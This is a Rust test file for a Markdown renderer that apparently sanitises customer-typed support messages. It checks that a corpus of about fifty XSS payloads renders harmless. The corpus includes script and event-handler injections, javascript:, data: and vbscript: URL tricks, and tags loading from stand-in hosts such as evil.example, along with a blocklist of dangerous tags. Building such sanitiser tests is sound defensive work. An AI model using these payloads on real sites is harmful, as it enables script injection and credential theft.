use super::*;

/// Every start tag in `html` as (name, [(attribute, value)]). ammonia writes well-formed
/// HTML with double-quoted, entity-escaped attribute values, so a simple scan suffices.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        rest = &rest[i + 1..];
        if rest.starts_with('/') {
            continue;
        }
        let end = rest.find('>').expect("every tag is closed");
        let inner = &rest[..end];
        rest = &rest[end..];
        let name_end = inner
            .find(|c: char| c.is_whitespace() || c == '/')
            .unwrap_or(inner.len());
        let name = inner[..name_end].to_ascii_lowercase();
        let mut attrs = Vec::new();
        let mut a = &inner[name_end..];
        loop {
            a = a.trim_start();
            let Some(eq) = a.find('=') else { break };
            let key = a[..eq].trim().to_ascii_lowercase();
            let after = &a[eq + 1..];
            assert!(after.starts_with('"'), "unquoted attribute in {inner}");
            let close = after[1..].find('"').expect("closing quote") + 1;
            attrs.push((key, after[1..close].to_owned()));
            a = &after[close + 1..];
        }
        out.push((name, attrs));
    }
    out
}

/// What "inert" means: only the tags Markdown makes, only href/rel/start, and every
/// href an http(s) or mailto URL, or a path with no scheme at all.
fn assert_inert(payload: &str) {
    let html = render(payload);
    for (name, attrs) in tags(&html) {
        assert!(
            TAGS.contains(&name.as_str()),
            "tag <{name}> from {payload:?}: {html}"
        );
        for (key, value) in attrs {
            match key.as_str() {
                "href" => {
                    let v = value.to_ascii_lowercase();
                    let scheme_free = !v.split('/').next().unwrap_or("").contains(':');
                    assert!(
                        v.starts_with("http://")
                            || v.starts_with("https://")
                            || v.starts_with("mailto:")
                            || scheme_free,
                        "href {value:?} from {payload:?}"
                    );
                    assert!(!v.contains("javascript"), "href {value:?} from {payload:?}");
                }
                "rel" => assert_eq!(value, "noopener noreferrer nofollow"),
                "start" => assert!(value.chars().all(|c| c.is_ascii_digit())),
                _ => panic!("attribute {key}={value:?} on <{name}> from {payload:?}: {html}"),
            }
        }
    }
    let lower = html.to_ascii_lowercase();
    for never in [
        "<script",
        "<svg",
        "<img",
        "<iframe",
        "<style",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<math",
        "<base",
        "<meta",
        "<link",
        "<details",
        "<body",
        "<noscript",
    ] {
        assert!(!lower.contains(never), "{never} from {payload:?}: {html}");
    }
}

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "[ok](https://ok.example \"t\\\" onmouseover=\\\"alert(1)\")",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pixel](https://tracker.example/p.gif)",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<style>body{display:none}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<object data=\"x.swf\"></object><embed src=x>",
    "<form action=https://evil.example><input name=password></form>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "- [ ] <svg onload=alert(1)>\n- [x] done",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<p>\u{0}<script>alert(1)</script></p>",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041\">x</a>",
];

#[test]
fn every_xss_payload_in_the_corpus_renders_inert() {
    for payload in XSS {
        assert_inert(payload);
    }
}

#[test]
fn raw_html_is_shown_as_the_text_the_customer_typed() {
    let html = render("<script>alert(1)</script>");
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{html}"
    );
}

#[test]
fn links_keep_their_target_and_get_rel_noopener_noreferrer_nofollow() {
    let html = render("[手順](https://support.netlink.example.jp/faq/) と <https://example.jp>");
    assert_eq!(
        html,
        "<p><a href=\"https://support.netlink.example.jp/faq/\" rel=\"noopener noreferrer nofollow\">手順</a> と \
         <a href=\"https://example.jp\" rel=\"noopener noreferrer nofollow\">https://example.jp</a></p>\n"
    );
}

#[test]
fn a_javascript_link_keeps_its_text_and_loses_its_target() {
    let html = render("[click](javascript:alert(1))");
    assert!(
        html.contains("click") && !html.contains("javascript"),
        "{html}"
    );
}

#[test]
fn images_become_links_so_nothing_loads_from_other_hosts() {
    assert_eq!(
        render("![構成図](https://example.jp/net.png)"),
        "<p><a href=\"https://example.jp/net.png\" rel=\"noopener noreferrer nofollow\">構成図</a></p>\n"
    );
    assert_eq!(
        render("![](https://example.jp/p.gif)"),
        "<p><a href=\"https://example.jp/p.gif\" rel=\"noopener noreferrer nofollow\">https://example.jp/p.gif</a></p>\n"
    );
}

#[test]
fn lines_typed_one_under_another_stay_so() {
    assert_eq!(
        render("新住所\n〒110-0016\n東京都台東区"),
        "<p>新住所<br>\n〒110-0016<br>\n東京都台東区</p>\n"
    );
}

#[test]
fn markdown_formatting_survives_cleaning() {
    let html = render(
        "## 手順\n\n1. **設定**を開く\n2. ~~古い~~ 新しい値\n\n| 項目 | 値 |\n|---|---|\n| port | `587` |\n\n- [x] 済\n- [ ] 未\n\n```\nlog <error>\n```",
    );
    for want in [
        "<h2>手順</h2>",
        "<strong>設定</strong>",
        "<del>古い</del>",
        "<td><code>587</code></td>",
        "☑ 済",
        "☐ 未",
        "<pre><code>log &lt;error&gt;\n</code></pre>",
    ] {
        assert!(html.contains(want), "{want} missing from {html}");
    }
}
